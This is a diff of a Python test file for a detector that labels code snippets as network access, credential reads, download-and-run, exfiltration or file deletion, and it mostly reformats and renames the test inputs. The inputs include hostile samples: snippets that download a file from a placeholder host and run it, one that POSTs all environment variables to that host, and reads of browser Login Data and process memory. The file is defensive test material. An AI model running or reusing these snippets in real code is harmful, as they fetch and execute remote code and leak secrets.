@@ -116,7 +116,10 @@ def test_shell_in_all_spellings(text: str) -> None:
             ("network", "api.host.invalid"),
         ),
         ('import urllib2\nurllib2.urlopen("https://api.host.invalid")', ("network", "api.host.invalid")),
-        ('import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))', ("network", "api.host.invalid")),
+        (
+            'import socket\ns = socket.socket()\ns.connect(("api.host.invalid", 80))',
+            ("network", "api.host.invalid"),
+        ),
         (
             (
                 "import httpx\nasync def f():\n    async with httpx.AsyncClient() as c:\n"
@@ -124,7 +127,10 @@ def test_shell_in_all_spellings(text: str) -> None:
             ),
             ("network", "api.host.invalid"),
         ),
-        ('import http.client\nc = http.client.HTTPSConnection("api.host.invalid")', ("network", "api.host.invalid")),
+        (
+            'import http.client\nc = http.client.HTTPSConnection("api.host.invalid")',
+            ("network", "api.host.invalid"),
+        ),
         ('import os\nos.environ["NPM_TOKEN"]', ("environment", "NPM_TOKEN")),
         ('from os import environ as e\ne.get("NPM_TOKEN")', ("environment", "NPM_TOKEN")),
         ('import os\nos.getenv("NPM_" + "TOKEN")', ("environment", "NPM_TOKEN")),
@@ -306,26 +312,30 @@ def test_phases(text: str, phase: str) -> None:
     assert phases(text)["shell"] == phase
 
 
+FETCHED_BESIDE = """import tempfile, os, urllib.request as u
+with tempfile.NamedTemporaryFile() as out:
+    out.write(u.urlopen("https://h.invalid/x").read())
+os.system(out.name)
+"""
+FETCHED_TO = """import os, urllib.request as u
+u.urlretrieve("https://h.invalid/x", "x.exe")
+os.startfile("x.exe")
+"""
+ASKED = """import http.client, os
+c = http.client.HTTPSConnection("h.invalid")
+c.request("POST", "/", body=repr(os.environ))
+"""
+
+
 @pytest.mark.parametrize(
     ("text", "expected"),
     [
         ('open(f"/proc/{pid}/mem", "rb", 0)', ("credentials", "/proc/PID/mem")),
         ("import os\nprint(str(dict(os.environ)))", ("environment-bulk", "*")),
         ('import shutil\nshutil.copy2(home + "/Default/Login Data", "x")', ("credentials", "Login Data")),
-        (
-            "import tempfile, os, urllib.request as u\nwith tempfile.NamedTemporaryFile() as out:\n"
-            '    out.write(u.urlopen("https://h.invalid/x").read())\nos.system(out.name)',
-            ("download-and-run", "h.invalid -> os.system"),
-        ),
-        (
-            'import os, urllib.request as u\nu.urlretrieve("https://h.invalid/x", "/tmp/x")\nos.startfile("/tmp/x")',
-            ("download-and-run", "/tmp/x -> os.startfile"),
-        ),
-        (
-            'import http.client, os\nc = http.client.HTTPSConnection("h.invalid")\n'
-            'c.request("POST", "/", body=repr(os.environ))',
-            ("exfiltration", "environment -> h.invalid"),
-        ),
+        (FETCHED_BESIDE, ("download-and-run", "h.invalid -> os.system")),
+        (FETCHED_TO, ("download-and-run", "x.exe -> os.startfile")),
+        (ASKED, ("exfiltration", "environment -> h.invalid")),
         (
             'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.remove(\'/x\')"])',
             ("filesystem-delete", "/x"),
